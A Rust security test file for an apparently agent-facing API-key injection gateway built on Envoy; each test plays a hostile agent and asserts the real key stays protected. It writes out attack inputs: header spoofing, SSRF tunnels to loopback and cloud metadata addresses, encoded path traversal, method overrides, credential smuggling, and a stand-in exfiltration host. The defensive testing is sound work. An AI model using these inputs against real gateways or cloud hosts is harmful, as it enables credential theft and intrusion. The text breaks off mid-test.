//! The agent is the adversary: each test is an attack, named after it, run the way a hostile
//! agent would — through `keyswap dev` (the generated Envoy config, real TLS, curl), or straight
//! at keyswap's gRPC service where the attack does not need Envoy. Every test asserts that the
//! real key neither reached a place the route does not allow nor came back to the agent.
//! docs/security.md names the test behind each claim.

mod common;

use std::process::Command;

use common::dev::*;
use common::grpc::{self, immediate, mutation, set_value};
use common::*;

// === a gateway to attack ===

/// Anthropic limited to `/v1/messages`, Google limited to one model, both keyed.
fn gateway(policy: &str, proxy_port: u16, tls_port: u16, extra_spec: &str) -> String {
    format!(
        r#"apiVersion: keyswap.dev/v1alpha1
kind: EgressGateway
metadata: {{name: egress}}
spec:
  defaultPolicy: {policy}
  listeners:
  - {{name: proxy, protocol: CONNECT, port: {proxy_port}}}
  - {{name: tls, protocol: HTTPS, port: {tls_port}, tls: {{mode: Terminate}}}}
{extra_spec}
---
apiVersion: keyswap.dev/v1alpha1
kind: AIProviderRoute
metadata: {{name: limited}}
spec:
  parentRefs: [{{name: egress}}]
  rules:
  - matches:
    - {{provider: anthropic, endpoints: ["/v1/messages"]}}
    - {{provider: google, models: ["gemini-allowed"]}}
---
apiVersion: keyswap.dev/v1alpha1
kind: CredentialInjectionPolicy
metadata: {{name: anthropic-key}}
spec:
  parentRefs: [{{kind: EgressGateway, name: egress}}]
  secretRef: {{name: keys}}
  target: Header
---
apiVersion: v1
kind: Secret
metadata: {{name: keys}}
stringData: {{token: {ANTHROPIC_KEY}}}
"#
    )
}

struct Gateway {
    dev: Dev,
    fake: FakeProvider,
    tls_port: u16,
    _dirs: (tempfile::TempDir, tempfile::TempDir),
}

async fn start_gateway(policy: &str, extra_spec: &str, args: &[&str]) -> Gateway {
    start_gateway_env(policy, extra_spec, args, &[]).await
}

/// [`start_gateway`] with keyswap's environment extended (OTLP settings, say).
async fn start_gateway_env(policy: &str, extra_spec: &str, args: &[&str], env: &[(&str, &str)]) -> Gateway {
    let (work, config) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (proxy_port, tls_port) = (free_port(), free_port());
    std::fs::write(config.path().join("gateway.yaml"), gateway(policy, proxy_port, tls_port, extra_spec)).unwrap();
    let hosts = ["api.anthropic.com", "generativelanguage.googleapis.com"];
    let (fake, ca) = FakeProvider::start_tls(&hosts, work.path()).await;
    fake.set_accepts("generativelanguage.googleapis.com", vec![Accept::Header("x-goog-api-key", ANTHROPIC_KEY.into())]);
    let upstreams: Vec<String> = hosts.iter().map(|h| format!("{h}={},ca={}", fake.addr, ca.display())).collect();
    let mut all = vec!["dev"];
    all.extend_from_slice(args);
    let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &upstreams, env, &all));
    Gateway { dev, fake, tls_port, _dirs: (work, config) }
}

impl Gateway {
    /// curl through the CONNECT proxy; `-i` so response headers are checked too.
    fn curl(&self, args: &[&str]) -> (i32, String, String) {
        // HTTP/1.1: an HTTP/2 stream still uploading when keyswap refuses it is reset by Envoy
        // instead of answered (a known Envoy behaviour, not the attack under test).
        let mut all = vec!["--http1.1", "-i", "--path-as-is", "-w", "\nSTATUS: %{http_code}"];
        all.extend_from_slice(args);
        let out = tokio::task::block_in_place(|| curl(&self.dev, &all));
        self.assert_no_key(&out.1);
        self.assert_no_key(&out.2);
        out
    }

    /// curl straight to the redirected HTTPS listener (no proxy), as an agent whose traffic is
    /// redirected to the gateway would connect.
    fn curl_tls(&self, host: &str, args: &[&str]) -> (i32, String, String) {
        let resolve = format!("{host}:{}:127.0.0.1", self.tls_port);
        let out = Command::new("curl")
            .args(["--http1.1", "-sS", "-i", "--path-as-is", "-w", "\nSTATUS: %{http_code}", "--max-time", "20"])
            .args(["--noproxy", "*"])
            .args(["--resolve", &resolve, "--cacert"])
            .arg(&self.dev.env["NODE_EXTRA_CA_CERTS"])
            .args(args)
            .output()
            .expect("curl is installed (apt-get install -y curl)");
        let (o, e) =
            (String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned());
        self.assert_no_key(&o);
        self.assert_no_key(&e);
        (out.status.code().unwrap_or(-1), o, e)
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.tls_port)
    }

    fn assert_no_key(&self, text: &str) {
        assert!(!text.contains(ANTHROPIC_KEY), "the real key came back to the agent:\n{text}");
    }

    /// Nothing reached the provider since `before` requests.
    fn assert_nothing_forwarded(&self, before: usize, what: &str) {
        let seen = self.fake.seen();
        assert_eq!(seen.len(), before, "{what}: reached the provider: {:?}", seen.last().map(|s| s.everything()));
    }
}

/// The final response's status as ` NNN` (` 000` when there was none), from curl's `-w`.
fn status_line(out: &str) -> &str {
    out.lines().rev().find_map(|l| l.strip_prefix("STATUS:")).unwrap_or("")
}

// === 1. edge identity ===

const EDGE: &str = r#"  agentAuth:
    validators:
    - name: mesh
      edgeTrust: {agentHeader: x-agent-id, tenantHeader: x-tenant-id, trustedCidrs: [10.0.0.0/8]}"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_x_forwarded_for_does_not_buy_an_edge_identity() {
    let g = start_gateway("deny-all", EDGE, &[]).await;
    let before = g.fake.seen().len();
    let spoof: &[&[&str]] = &[
        &["-H", "X-Forwarded-For: 10.1.2.3"],
        &["-H", "X-Forwarded-For: 10.1.2.3, 10.9.9.9"],
        &["-H", "X-Envoy-External-Address: 10.1.2.3", "-H", "X-Forwarded-For: 10.1.2.3"],
        &["-H", "Forwarded: for=10.1.2.3", "-H", "X-Real-IP: 10.1.2.3"],
    ];
    for headers in spoof {
        let mut args: Vec<&str> = headers.to_vec();
        args.extend(["-H", "x-agent-id: admin", "-H", "x-tenant-id: acme", "-d", "{}"]);
        // Through the CONNECT proxy (internal listener) and straight to the HTTPS listener.
        let url = "https://api.anthropic.com/v1/messages".to_owned();
        let (_, out, err) = g.curl(&[args.as_slice(), &[url.as_str()]].concat());
        assert!(status_line(&out).contains(" 401"), "{headers:?} via CONNECT: {out}{err}\n{}", g.dev.proc.output());
        let url = g.url("api.anthropic.com", "/v1/messages");
        let (_, out, err) = g.curl_tls("api.anthropic.com", &[args.as_slice(), &[url.as_str()]].concat());
        assert!(status_line(&out).contains(" 401"), "{headers:?} via HTTPS listener: {out}{err}");
    }
    g.assert_nothing_forwarded(before, "spoofed edge identity");
}

/// What an agent's request tells the provider about the gateway, and the agent about Envoy:
/// Envoy appended the agent's address to `X-Forwarded-For` (and `x-envoy-external-address`),
/// told the provider its own timeout (`x-envoy-expected-rq-timeout-ms`), and the agent how long
/// the provider took (`x-envoy-upstream-service-time`). None of them now; nor the forwarding
/// headers the agent writes itself: the organisation's key carried whatever client address an
/// agent made up to the provider's abuse and rate systems.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_provider_learns_no_gateway_address_and_the_agent_no_envoy_timing() {
    let g = start_gateway("deny-all", "", &[]).await;
    let args = [
        "-H",
        "x-api-key: keyswap-injected-by-proxy",
        "-H",
        "X-Forwarded-For: 198.51.100.7",
        "-H",
        "Forwarded: for=198.51.100.7;proto=https",
        "-H",
        "X-Real-IP: 198.51.100.7",
        "-H",
        "True-Client-IP: 198.51.100.7",
        "-d",
        "{}",
    ];
    let via_connect = "https://api.anthropic.com/v1/messages".to_owned();
    let (_, out_connect, err) = g.curl(&[&args[..], &[via_connect.as_str()]].concat());
    assert!(status_line(&out_connect).contains(" 200"), "{out_connect}{err}");
    let direct = g.url("api.anthropic.com", "/v1/messages");
    let (_, out_direct, err) = g.curl_tls("api.anthropic.com", &[&args[..], &[direct.as_str()]].concat());
    assert!(status_line(&out_direct).contains(" 200"), "{out_direct}{err}");
    for out in [&out_connect, &out_direct] {
        assert!(!out.to_ascii_lowercase().contains("x-envoy-"), "Envoy's headers reach the agent:\n{out}");
    }
    let seen = g.fake.seen();
    assert_eq!(seen.len(), 2);
    for s in &seen {
        for (name, value) in &s.headers {
            let value = String::from_utf8_lossy(value);
            assert!(!name.starts_with("x-envoy-"), "{name}: {value} reached the provider");
            assert!(
                !value.contains("198.51.100.7"),
                "the agent's made-up address reached the provider: {name}: {value}"
            );
        }
    }
}

// === 2. the tunnel reaches the gateway itself ===

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tunnel_to_loopback_private_or_metadata_addresses_is_refused() {
    let inside = FakeProvider::start().await; // a service on the gateway's own loopback
    let (collector, collector_addr) = otlp::Receiver::start().await;
    let endpoint = format!("http://{collector_addr}");
    let env = [("OTEL_EXPORTER_OTLP_ENDPOINT", endpoint.as_str()), ("OTEL_EXPORTER_OTLP_PROTOCOL", "grpc")];
    let g = start_gateway_env("allow-all", "", &[], &env).await;
    let port = inside.addr.port();
    let proxy = g.dev.env["HTTPS_PROXY"].trim_start_matches("http://").to_owned();
    let targets = [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("0.0.0.0:{port}"),
        format!("2130706433:{port}"), // 127.0.0.1 as one decimal number
        format!("0x7f000001:{port}"),
        format!("127.1:{port}"),
        proxy.clone(), // the proxy listener itself
        "169.254.169.254:80".into(),
        "168.63.129.16:32526".into(), // Azure's HostGAPlugin: an AKS node's provisioning settings
        "[fd00:ec2::254]:80".into(),
        "10.0.0.1:443".into(),
        "192.168.0.1:443".into(),
        "100.100.100.200:80".into(),
        format!("LOCALHOST.:{port}"),
    ];
    for t in &targets {
        let out = Command::new("curl")
            .args(["-sS", "--max-time", "10", "-p", "--proxy", &g.dev.env["HTTPS_PROXY"], "-o", "/dev/null"])
            .arg(format!("http://{t}/"))
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "CONNECT {t} was tunnelled");
        assert!(err.contains("CONNECT tunnel failed") || err.contains("40"), "CONNECT {t}: {err}");
    }
    assert!(inside.seen().is_empty(), "a loopback service was reached through the tunnel");
    let (_, metrics) = scrape(metrics_port(&g.dev), "/metrics").await;
    assert!(metric(&metrics, "keyswap_tunnels_total{result=\"refused\"}") >= 10.0, "{metrics}");
    assert_eq!(metric(&metrics, "keyswap_tunnels_total{result=\"allowed\"}"), 0.0, "{metrics}");
    // Each refusal keyswap made is a span a viewer shows: CONNECT, the target, 403 and why.
    let refused = metric(&metrics, "keyswap_tunnels_total{result=\"refused\"}") as usize;
    let spans = collector.wait_for(refused).await;
    let connects: Vec<_> = spans
        .iter()
        .map(|(_, s)| s)
        .filter(|s| otlp::s(&s.attributes, "http.request.method").as_deref() == Some("CONNECT"))
        .collect();
    assert_eq!(connects.len(), refused, "a span per refused tunnel: {connects:#?}");
    let metadata = connects
        .iter()
        .find(|s| otlp::s(&s.attributes, "server.address").as_deref() == Some("169.254.169.254"))
        .expect("the metadata service attempt");
    assert_eq!(metadata.name, "CONNECT 169.254.169.254");
    assert_eq!(otlp::i(&metadata.attributes, "http.response.status_code"), Some(403));
    assert_eq!(otlp::s(&metadata.attributes, "error.type").as_deref(), Some("private_destination"));
    assert_eq!(otlp::s(&metadata.attributes, "url.full"), None);
    // An allow-list entry that resolves to loopback is refused the same way.
    let g = start_gateway("deny-all", "  allow: [localhost, \"127.0.0.1\"]", &[]).await;
    for t in [format!("localhost:{port}"), format!("127.0.0.1:{port}")] {
        let out = Command::new("curl")
            .args(["-sS", "--max-time", "10", "-p", "--proxy", &g.dev.env["HTTPS_PROXY"], "-o", "/dev/null"])
            .arg(format!("http://{t}/"))
            .output()
            .unwrap();
        assert!(!out.status.success(), "allow-listed CONNECT {t} to loopback was tunnelled");
    }
    assert!(inside.seen().is_empty(), "a loopback service was reached through an allow-list tunnel");
}

// === 3. the ext_proc service as a key oracle ===

#[test]
fn ext_proc_socket_is_owner_only_and_tcp_needs_listen() {
    let (work, config) = (tempfile::tempdir().unwrap(), config_dir());
    let (mut proc, uds) = start_keyswap(config.path(), work.path(), &[], &[]);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&uds).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "ext_proc socket mode {mode:o}");
    // Bound in a private directory first (no one connects before the mode is set), left behind.
    let litter: Vec<_> = std::fs::read_dir(uds.parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("keyswap.sock."))
        .collect();
    assert!(litter.is_empty(), "{litter:?}");
    let log = proc.output();
    assert!(!log.contains("tcp://"), "serve listened on TCP without --listen:\n{log}");
    proc.terminate();
    // --uds-mode opens it to a group, explicitly.
    let (mut proc, uds) = start_keyswap(config.path(), work.path(), &[], &["--uds-mode", "660"]);
    assert_eq!(std::fs::metadata(&uds).unwrap().permissions().mode() & 0o777, 0o660);
    proc.terminate();
    let help = Command::new(env!("CARGO_BIN_EXE_keyswap")).args(["serve", "--help"]).output().unwrap();
    let help = String::from_utf8_lossy(&help.stdout);
    assert!(help.contains("gets the real key back"), "serve --help must say TCP ext_proc is secret-bearing: {help}");
}

/// keyswap serving with a gateway CA (`--ca-dir`), and `extra` arguments.
fn start_with_ca(extra: &[&str]) -> (Proc, std::path::PathBuf, [tempfile::TempDir; 2]) {
    let (work, config) = (tempfile::tempdir().unwrap(), config_dir());
    let ca = work.path().join("ca");
    let out = Command::new(env!("CARGO_BIN_EXE_keyswap"))
        .args(["certs", "--config"])
        .arg(config.path())
        .arg("--out")
        .arg(&ca)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let mut args = vec!["--ca-dir", ca.to_str().unwrap()];
    args.extend_from_slice(extra);
    let (proc, uds) = tokio::task::block_in_place(|| start_keyswap(config.path(), work.path(), &[], &args));
    (proc, uds, [work, config])
}

type AdsClient = envoy_types::pb::envoy::service::discovery::v3::aggregated_discovery_service_client::AggregatedDiscoveryServiceClient<tonic::transport::Channel>;

/// Asks ADS for the leaf secret, as Envoy does: the first response that carries it (the leaf is
/// minted just after the CA loads, and pushed on the same stream), or the stream's error.
async fn ask_for_the_leaf(
    mut client: AdsClient,
) -> Result<Option<envoy_types::pb::envoy::service::discovery::v3::DiscoveryResponse>, tonic::Status> {
    let req = envoy_types::pb::envoy::service::discovery::v3::DiscoveryRequest {
        type_url: "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret".into(),
        resource_names: vec!["keyswap_leaf".into()],
        ..Default::default()
    };
    // The request stream stays open (as Envoy's does), so later pushes arrive.
    let requests = tokio_stream::StreamExt::chain(tokio_stream::iter(vec![req]), tokio_stream::pending());
    let mut stream = client.stream_aggregated_resources(requests).await?.into_inner();
    let leaf = async {
        loop {
            match stream.message().await? {
                Some(r) if r.resources.is_empty() => continue,
                other => return Ok(other),
            }
        }
    };
    tokio::time::timeout(std::time::Duration::from_secs(10), leaf).await.expect("no leaf in 10 s")
}

/// An ADS client over the Unix socket at `uds`.
async fn ads_over(uds: &std::path::Path) -> AdsClient {
    let path = uds.to_path_buf();
    let channel = tonic::transport::Endpoint::from_static("http://keyswap.invalid")
        .connect_with_connector(tower::service_fn(move |_: tonic::transport::Uri| {
            let path = path.clone();
            async move { tokio::net::UnixStream::connect(path).await.map(hyper_util::rt::TokioIo::new) }
        }))
        .await
        .unwrap();
    AdsClient::new(channel)
}

/// ADS hands Envoy the leaf's private key: it is served on the owner-only Unix socket and never on
/// a TCP `--listen` address, where more than the socket's owner could ask for it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ads_and_the_leaf_key_are_never_served_on_tcp() {
    let tcp = format!("127.0.0.1:{}", free_port());
    let (proc, uds, _dirs) = start_with_ca(&["--listen", &tcp]);
    // TCP: no such service.
    let err = ask_for_the_leaf(AdsClient::connect(format!("http://{tcp}")).await.unwrap())
        .await
        .expect_err("ADS answered on TCP");
    assert_eq!(err.code(), tonic::Code::Unimplemented, "{err}");
    // The Unix socket: the leaf, as Envoy gets it.
    let resp = ask_for_the_leaf(ads_over(&uds).await).await.unwrap().expect("a response");
    assert_eq!(resp.resources.len(), 1, "the leaf over the socket:\n{}", proc.output());
    assert!(proc.output().contains("ext_proc server listening address=tcp://"), "{}", proc.output());
}

/// A message on the ADS stream that is not a DiscoveryRequest ends that stream with an error
/// status; keyswap keeps serving ADS (and ext_proc).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn undecodable_ads_messages_end_their_stream_and_ads_keeps_serving() {
    let (mut proc, uds, _dirs) = start_with_ca(&[]);
    // A gRPC frame whose payload is not a DiscoveryRequest (field 1 as a truncated varint).
    let frame: &[u8] = &[0, 0, 0, 0, 3, 0x0a, 0xff, 0xff];
    let socket = uds.clone();
    let out = tokio::task::spawn_blocking(move || {
        Command::new("curl")
            .args(["-sS", "--http2-prior-knowledge", "-D", "-", "-o", "/dev/null", "--max-time", "10", "--unix-socket"])
            .arg(&socket)
            .args(["-H", "content-type: application/grpc", "-H", "te: trailers", "--data-binary", "@-"])
            .arg("http://keyswap/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut child| {
                use std::io::Write;
                child.stdin.take().unwrap().write_all(frame)?;
                child.wait_with_output()
            })
            .expect("curl is installed (apt-get install -y curl)")
    })
    .await
    .unwrap();
    let headers = String::from_utf8_lossy(&out.stdout).to_ascii_lowercase();
    let status = headers.lines().find_map(|l| l.strip_prefix("grpc-status:")).map(str::trim);
    assert!(status.is_some_and(|s| s != "0"), "expected an error grpc-status: {headers}");
    proc.assert_running();
    let resp = ask_for_the_leaf(ads_over(&uds).await).await.unwrap().expect("a response after the bad message");
    assert_eq!(resp.resources.len(), 1, "{}", proc.output());
}

/// Over ADS the TLS chain matches any server name (so a host change never touches a listener):
/// an unrouted name, on the redirected TLS listener or inside a CONNECT tunnel to a routed host,
/// gets the leaf (which does not name it) and, past that, a refusal (keyswap's 403 on a deny-all
/// gateway, Envoy's 421 from the `misdirected` virtual host otherwise): nothing is forwarded, no key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unrouted_server_name_behind_a_routed_listener_or_tunnel_reaches_nothing() {
    let g = start_gateway("deny-all", "", &[]).await;
    let before = g.fake.seen().len();
    let body = ["-H", "x-api-key: keyswap-injected-by-proxy", "-d", "{}"];
    // The redirected TLS listener: verification fails (the leaf does not name the host) …
    let (code, _, err) =
        g.curl_tls("exfil.example.com", &[&body[..], &[&g.url("exfil.example.com", "/upload")]].concat());
    assert_ne!(code, 0, "an unrouted name passed certificate verification: {err}");
    // … and an agent that skips verification is refused.
    let refused = |out: &str| matches!(status_line(out), " 403" | " 421");
    let (_, out, _) =
        g.curl_tls("exfil.example.com", &[&["-k"][..], &body[..], &[&g.url("exfil.example.com", "/upload")]].concat());
    assert!(refused(&out), "{out}");
    // A tunnel opened to a routed host, then TLS and Host for another one.
    let (_, out, err) = g.curl(
        &[
            &["-k", "--connect-to", "exfil.example.com:443:api.anthropic.com:443"][..],
            &body[..],
            &["https://exfil.example.com/upload"],
        ]
        .concat(),
    );
    assert!(refused(&out), "{out}\n{err}");
    g.assert_nothing_forwarded(before, "an unrouted server name");
}

// === 4. path and method tricks ===

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dot_segments_encoded_slashes_and_trace_do_not_reach_excluded_endpoints_or_models() {
    let g = start_gateway("deny-all", "", &[]).await;
    let anthropic = |p: &str| format!("https://api.anthropic.com{p}");
    let google = |p: &str| format!("https://generativelanguage.googleapis.com{p}");
    let attacks = [
        anthropic("/v1/messages/../admin"),
        anthropic("/v1/messages/..%2F..%2Fadmin"),
        anthropic("/v1/messages/%2e%2e/admin"),
        anthropic("/v1/messages/%2E%2E%2Fadmin"),
        anthropic("/v1/messages%2F..%2Fadmin"),
        anthropic("/v1/messages/%252e%252e/admin"),
        anthropic("//v1/messages/../../admin"),
        anthropic("/v1/messages\\..\\admin"),
        anthropic("/v1/messages/%5C..%5Cadmin"),
        anthropic("/v1/./messages/../../admin"),
        google("/v1beta/models/gemini-allowed/../gemini-other:generateContent"),
        google("/v1beta/models/gemini-allowed%2F..%2Fgemini-other:generateContent"),
        google("/v1beta/models/gemini-allowed/%2e%2e/gemini-other:generateContent"),
        google("/v1beta/models/gemini-other:generateContent?x=/models/gemini-allowed"),
        // Dot-segments as servers that cut path parameters (Tomcat, Spring) or trailing spaces
        // read them: the allowed model names the path, another one answers.
        google("/v1beta/models/gemini-allowed/..;/gemini-other:generateContent"),
        google("/v1beta/models/gemini-allowed/%2e%2e;x=1/gemini-other:generateContent"),
        google("/v1beta/models/gemini-allowed/..%20/gemini-other:generateContent"),
        anthropic("/v1/messages/..;/admin"),
    ];
    let before = g.fake.seen().len();
    for url in &attacks {
        let (_, out, err) = g.curl(&["-d", "{}", url]);
        let status = status_line(&out);
        assert!(
            [" 400", " 403", " 404"].iter().any(|c| status.contains(c)),
            "{url}: expected a refusal, got {status:?}\n{out}{err}"
        );
    }
    g.assert_nothing_forwarded(before, "path tricks");
    for method in ["TRACE", "TRACK", "PROPFIND", "DEBUG"] {
        let (_, out, _) = g.curl(&["-X", method, &anthropic("/v1/messages")]);
        assert!(status_line(&out).contains(" 405") || status_line(&out).contains(" 400"), "{method}: {out}");
    }
    // The same methods named by an override header, which Google's front ends honour on POST.
    for (header, method) in
        [("X-HTTP-Method-Override", "TRACE"), ("X-HTTP-Method", "trace"), ("X-Method-Override", "PROPFIND")]
    {
        let h = format!("{header}: {method}");
        for url in [anthropic("/v1/messages"), google("/v1beta/models/gemini-allowed:generateContent")] {
            let (_, out, _) = g.curl(&["-H", &h, "-d", "{}", &url]);
            assert_eq!(status_line(&out), " 405", "{h} {url}: {out}");
        }
    }
    // The query form Google documents among its system parameters (`$httpMethod`).
    for q in ["$httpMethod=TRACE", "%24httpMethod=trace", "alt=json&$http_method=PROPFIND"] {
        let url = google(&format!("/v1beta/models/gemini-allowed:generateContent?{q}"));
        let (_, out, _) = g.curl(&["-d", "{}", &url]);
        assert_eq!(status_line(&out), " 405", "{url}: {out}");
    }
    g.assert_nothing_forwarded(before, "odd methods");
    // The allowed endpoint and model still work.
    let (_, out, _) = g.curl(&["-d", "{}", &anthropic("/v1/messages")]);
    assert!(status_line(&out).contains(" 200"), "{out}");
    let (_, out, _) = g.curl(&["-d", "{}", &google("/v1beta/models/gemini-allowed:generateContent")]);
    assert!(status_line(&out).contains(" 200"), "{out}");
}

// === 7. smuggling beside the real key ===

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cookies_underscore_headers_lenient_and_google_oauth_query_names_are_not_smuggled() {
    let g = start_gateway("deny-all", "", &[]).await;
    let before = g.fake.seen().len();
    let (_, out, _) = g.curl(&[
        "-H",
        &format!("Cookie: session={STOLEN}"),
        "-H",
        &format!("x_api_key: {STOLEN}"),
        "-H",
        &format!("X_Goog_Api_Key: {STOLEN}"),
        "-H",
        &format!("Ocp-Apim-Subscription-Key: {STOLEN}"),
        "-d",
        "{}",
        &format!(
            "https://generativelanguage.googleapis.com/v1beta/models/gemini-allowed:generateContent?\
             api_key={STOLEN}&API-KEY={STOLEN}&%6Bey={STOLEN}&alt=json;key={STOLEN}&access_token={STOLEN}&Key[]={STOLEN}\
             &oauth_token={STOLEN}&Bearer_Token={STOLEN}&subscription-key={STOLEN}"
        ),
    ]);
    assert!(status_line(&out).contains(" 200"), "{out}");
    let seen = g.fake.seen();
    assert_eq!(seen.len(), before + 1);
    let got = seen.last().unwrap().everything();
    assert!(!got.contains(STOLEN), "an agent value reached the provider beside the key: {got}");
    assert!(!got.to_ascii_lowercase().contains("cookie"), "{got}");
}

/// The attack: a `custom` route to an AI gateway that reads its own key header before
/// `Authorization` (LiteLLM's `x-litellm-api-key`, Kong's `apikey`, Portkey, Cloudflare AI
/// Gateway, Helicone, Azure Functions): the agent's stolen key there reached it beside the
/// injected one, and the call ran and was billed on it. Stripped as every credential header is.
/// And `X-Original-URL` / `X-Rewrite-URL`, which some servers serve instead of the path the
/// route's endpoints matched: refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gateway_key_headers_and_path_overrides_are_not_smuggled() {
    let g = start_gateway("deny-all", "", &[]).await;
    let before = g.fake.seen().len();
    let mut args: Vec<String> = Vec::new();
    for h in [
        "x-litellm-api-key",
        "apikey",
        "X-ApiKey",
        "x-functions-key",
        "x-portkey-api-key",
        "cf-aig-authorization",
        "Helicone-Auth",
        "xi-api-key",
        "private-token",
        "x-access-token",
    ] {
        args.extend(["-H".to_owned(), format!("{h}: {STOLEN}")]);
    }
    let url = "https://api.anthropic.com/v1/messages".to_owned();
    args.extend(["-d".to_owned(), "{}".to_owned(), url.clone()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (_, out, _) = g.curl(&args);
    assert!(status_line(&out).contains(" 200"), "{out}");
    let seen = g.fake.seen();
    assert_eq!(seen.len(), before + 1);
    let got = seen.last().unwrap().everything();
    assert!(!got.contains(STOLEN), "an agent key reached the provider beside the injected one: {got}");
    for h in ["X-Original-URL: /v1/messages/batches", "X-Rewrite-URL: /v1/messages/batches", "x-original-url: /x"] {
        let (_, out, _) = g.curl(&["-H", h, "-d", "{}", &url]);
        assert!(status_line(&out).contains(" 400"), "{h}: {out}");
        assert!(out.contains("malformed_path"), "{h}: {out}");
    }
    g.assert_nothing_forwarded(before + 1, "path overrides");
    // Spelled with underscores, Envoy drops it before anyone reads it.
    let (_, out, _) = g.curl(&["-H", "x_original_url: /v1/messages/batches", "-d", "{}", &url]);
    assert!(status_line(&out).contains(" 200"), "{out}");
    let got = g.fake.seen().last().unwrap().everything();
    assert!(!got.to_ascii_lowercase().contains("original"), "{got}");
}

/// The attack: the key reaches several OpenAI organizations or Google projects, and the agent
/// names another one (`OpenAI-Organization`, `OpenAI-Project`, `X-Goog-User-Project`, Google's
/// `userProject` parameter, in disguised spellings too) to run and bill its calls there. Those
/// are removed; a value the policy pins (`spec.setHeaders`, any header) is the only one the
/// provider sees, whatever spelling the agent sent it in.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_choose_the_organization_or_project_its_key_is_used_in() {
    let (work, config) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let pin = "  target: Header\n  setHeaders: [{name: X-Goog-User-Project, value: operator-project}, {name: X-Server-Timeout, value: '60'}]\n";
    let text = gateway("deny-all", free_port(), free_port(), "").replacen("  target: Header\n", pin, 1);
    std::fs::write(config.path().join("gateway.yaml"), text).unwrap();
    let google = "generativelanguage.googleapis.com";
    let (fake, ca) = FakeProvider::start_tls(&[google], work.path()).await;
    fake.set_accepts(google, vec![Accept::Header("x-goog-api-key", ANTHROPIC_KEY.into())]);
    let up = vec![format!("{google}={},ca={}", fake.addr, ca.display())];
    let dev = tokio::task::block_in_place(|| start_dev(config.path(), work.path(), &up));
    let url = format!(
        "https://{google}/v1beta/models/gemini-allowed:generateContent?alt=json&userProject=attacker-q1&%24userProject=attacker-q2&user_project=attacker-q3"
    );
    let (code, out, err) = tokio::task::block_in_place(|| {
        curl(
            &dev,
            &[
                "--http1.1",
                "-i",
                "-H",
                "OpenAI-Organization: org-attacker",
                "-H",
                "openai_project: proj-attacker",
                "-H",
                "X-Goog-User-Project: attacker-h1",
                "-H",
                "x_goog_user_project: attacker-h2",
                // A pinned header that is no scope header, in a disguised spelling.
                "-H",
                "X_Server_Timeout: attacker-timeout",
                "-d",
                "{}",
                &url,
            ],
        )
    });
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("HTTP/1.1 200") || out.contains("\nHTTP/1.1 200"), "{out}");
    let seen = fake.seen();
    let got = seen.last().unwrap();
    assert!(!got.everything().contains("attacker"), "the agent chose the scope: {}", got.everything());
    assert_eq!(got.header("x-goog-user-project"), vec![b"operator-project".as_slice()], "{}", got.everything());
    assert_eq!(got.header("x-server-timeout"), vec![b"60".as_slice()], "{}", got.everything());
    assert!(got.path_and_query.ends_with("?alt=json"), "{}", got.path_and_query);
    let log = dev.proc.output();
    assert!(!log.contains("credentials of its own"), "a scope header is not a smuggled credential:\n{log}");
}

/// The attack: requests refused before any provider is asked cost the agent nothing; each with
/// a 20 KB path (or authority) used to put all of it in the log line that names the refusal, so
/// a loop of them wrote megabytes a second into the operators' log pipeline.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refused_requests_with_huge_paths_cost_short_log_lines() {
    let g = start_gateway("deny-all", "", &[]).await;
    let long = "a".repeat(20_000);
    for url in
        [format!("https://api.anthropic.com/v1/{long}"), format!("https://api.anthropic.com/v1/messages/../{long}")]
    {
        let (_, out, _) = g.curl(&["-d", "{}", &url]);
        let status = status_line(&out);
        assert!(status.contains(" 403") || status.contains(" 400"), "{out}");
    }
    let log = g.dev.proc.output();
    let refusals: Vec<&str> =
        log.lines().filter(|l| l.contains("answering 403") || l.contains("request target refused")).collect();
    assert!(refusals.len() >= 2, "the refusals were not logged:\n{log}");
    for line in refusals {
        assert!(line.len() < 2_000, "a {} byte log line", line.len());
    }
}

// === 8. keys echoed in responses ===

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_echoed_in_response_headers_never_reaches_the_agent() {
    // An upstream that echoes the credential (the fake's /echo, as a debugging proxy or an
    // error page might) has it scrubbed from the headers the agent gets.
    let (dev, fake, _dirs) = anthropic_gateway(false).await;
    for path in ["/echo", "/echo?x=1"] {
        let (code, out, err) = tokio::task::block_in_place(|| {
            curl(&dev, &["--http1.1", "-D", "-", "-d", "{}", &format!("https://api.anthropic.com{path}")])
        });
        assert_eq!(code, 0, "{err}");
        assert!(fake.seen().last().unwrap().header_str("x-api-key").as_deref() == Some(ANTHROPIC_KEY));
